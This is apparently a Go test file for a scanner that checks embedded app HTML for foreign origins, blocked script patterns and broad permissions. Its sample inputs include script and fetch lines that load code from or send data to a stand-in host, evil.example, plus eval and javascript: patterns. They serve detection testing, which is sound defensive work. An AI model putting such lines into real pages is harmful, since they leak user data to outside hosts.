package scan

import (
	"strings"
	"testing"

	"gotest.tools/v3/assert"
)

// appFindings returns the findings about one app, as "RULE SEVERITY EVIDENCE".
func appFindings(a App) (found []string) {
	a.URI = "ui://x"
	for _, f := range Scan([]Server{{ID: "s", Apps: []App{a}}}) {
		found = append(found, strings.Join([]string{f.Rule, f.Severity.String(), f.Evidence}, " "))
	}
	return found
}

// Each rule about apps finds what it is about, and not the most similar harmless page.
func TestApps(t *testing.T) {
	for html, want := range map[string]string{
		`<script src="https://evil.example/x.js"></script>`:        "app-foreign-origin medium https://evil.example",
		`<img alt=x src=//evil.example/p>`:                         "app-foreign-origin medium https://evil.example",
		`<script>fetch("https://evil.example/?q=" + d)</script>`:   "app-foreign-origin medium https://evil.example",
		`<script>new WebSocket('wss://evil.example')</script>`:     "app-foreign-origin medium wss://evil.example",
		`<style>a { background: url(https://evil.example) }`:       "app-foreign-origin medium https://evil.example",
		`<form action="https://evil.example/">`:                    "app-foreign-origin medium https://evil.example",
		`<script src="https://a.good.example/x.js"></script>`:      "",
		`<script>fetch("https://api.example/x")</script>`:          "",
		`<a href="https://docs.example/">docs</a>`:                 "",
		`<script>const ns = "http://www.w3.org/2000/svg"</script>`: "",
		`<script>new URL("https://base.example")</script>`:         "",
		`<script>fetch("/x")</script>`:                             "",
		`<script>eval (x)</script>`:                                "app-blocked-script low eval (",
		`<script>new Function("return 1")()</script>`:              "app-blocked-script low new Function(",
		`<a href="javascript:x()">`:                                `app-blocked-script low href="javascript:`,
		`<script src="data:text/javascript,x"></script>`:           `app-blocked-script low <script src="data:`,
		`<meta http-equiv="Content-Security-Policy" content="x">`:  `app-blocked-script low <meta http-equiv="Content-Security-Policy`,
		`<script>function evaluate(x) {}; evaluate(1)</script>`:    "",
		`<p>javascript: a language</p>`:                            "",
	} {
		got := appFindings(App{HTML: html,
			Origins: []string{"https://*.good.example", "https://api.example"}})
		assert.Equal(t, strings.Join(got, "\n"), want, html)
	}
	many := App{HTML: "<!doctype html>", Permissions: []string{"camera", "microphone",
		"geolocation", "clipboard-write"}, Invalid: []string{"'unsafe-eval'"},
		Origins: []string{"http://plain.example", "https://*.example", "http://localhost:3000",
			"https://fine.example", "https://*.fine.example"}}
	assert.DeepEqual(t, appFindings(many), []string{
		"app-access high camera, microphone, geolocation, clipboard-write",
		"app-access high 'unsafe-eval'", "app-access high https://*.example",
		"app-access medium http://plain.example"})
	assert.DeepEqual(t, appFindings(App{Permissions: []string{"camera"}}),
		[]string{"app-access low camera"})
	assert.DeepEqual(t, appFindings(App{HTML: strings.Repeat("x", maxApp+1)}),
		[]string{"app-access medium 2097153 bytes"})
}
